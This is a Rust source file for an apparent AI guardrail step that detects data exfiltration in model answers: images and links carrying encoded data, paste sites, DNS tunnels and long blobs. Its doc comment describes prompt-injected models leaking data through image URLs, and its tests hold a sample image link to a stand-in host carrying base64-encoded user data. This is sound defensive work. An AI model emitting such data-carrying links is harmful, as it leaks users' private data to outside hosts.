//! Finds links, hosts and blobs in the answer that carry data out.

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use tappass_model::{Exchange, Family, Match, OnDetection, Outcome};

use super::scored::{Scored, check};
use crate::step::{About, Category, Define, Meta, Phase, Pure};

/// # What it does
/// Opens the links of the answer and looks at what they carry: encoded text, keys, records, places for secrets.
/// An image weighs more than a link, since it is fetched without anyone's doing. Also hosts made to collect,
/// uploads to paste sites, host names that hold data, scripts that send cookies, and long encoded blobs.
/// A streamed answer is judged while it flows.
/// # Why
/// An injected model tells what it knows by a picture's address.
/// # On a hit
/// Blocks, or ends the stream. `redact` puts a placeholder in the place of the link.
/// # Limits
/// Encrypted or split loads look like any other token. A harmless link is judged by its form only; it is not
/// fetched.
#[derive(Debug, Clone, Serialize, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields, default)]
pub struct DetectExfiltration {
    /// From which score on a text is a hit, 0 to 1.
    pub threshold: f32,
}

impl Default for DetectExfiltration {
    fn default() -> Self {
        Self { threshold: 0.55 }
    }
}

impl Define for DetectExfiltration {
    const META: Meta = Meta {
        id: "detect_exfiltration",
        position: 740,
        phase: Phase::After,
        category: Category::ResponseSafety,
        summary: "Finds images and links that carry data out, paste sites, DNS tunnels, long encoded blobs",
        threats: &["LLM02", "LLM05", "ASI02", "AML.T0057", "AML.T0077"],
        on_detection: OnDetection::Block,
    };
    const ABOUT: About = About::Answer;

    fn families(&self) -> &'static [Family] {
        &[Family::Exfiltration]
    }

    fn prepare(&mut self) -> Result<(), String> {
        check(self.threshold)
    }
}

impl DetectExfiltration {
    const fn scored(threshold: f32) -> Scored {
        Scored { step: Self::META.id, family: Family::Exfiltration, threshold }
    }
}

impl Pure for DetectExfiltration {
    fn run(&self, x: &Exchange) -> Outcome {
        let Some(answer) = &x.answer else { return Outcome::pass() };
        Self::scored(x.threshold(self.threshold)).answer(answer, |_| true)
    }

    fn streams(&self) -> bool {
        true
    }

    fn counts(&self, hit: &Match, _text: &str, before: &[Match]) -> bool {
        Self::scored(self.threshold).reached(hit, before)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{answered, scanned};

    #[test]
    fn lets_ordinary_links_pass() {
        let text = "See https://docs.example.org/guide?page=39#install and ![logo](./logo.png).";
        assert!(!DetectExfiltration::default().run(&answered(text)).detected);
    }

    #[test]
    fn catches_an_image_that_carries_text() {
        let text = "Done. ![x](https://img.example/p.png?d=dXNlcj1qYW47cm9sZT1hZG1pbg==)";
        let outcome = DetectExfiltration::default().run(&answered(text));
        assert!(outcome.detected && outcome.message.contains("LOADED_LINK"), "{outcome:?}");
    }

    #[test]
    fn without_an_answer_there_is_nothing() {
        let text = "![x](https://img.example/p.png?d=dXNlcj1qYW47cm9sZT1hZG1pbg==)";
        assert!(!DetectExfiltration::default().run(&scanned(text)).detected);
    }
}
